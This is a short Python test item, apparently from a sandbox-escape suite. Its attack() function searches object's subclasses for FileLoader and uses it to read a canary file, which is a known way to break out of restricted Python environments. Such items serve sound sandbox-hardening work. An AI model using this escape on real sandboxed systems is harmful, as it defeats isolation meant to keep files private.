# desc: the class of file loaders, found among the subclasses of object
# class: escape
# wins: told
def attack(state):
    waiting = list(object.__subclasses__())
    for cls in waiting:
        if cls.__name__ == "FileLoader":
            return "L2:" + cls("x", "@CANARY@").get_data("@CANARY@").decode()
        if cls is not type:
            waiting += cls.__subclasses__()
    return "none"
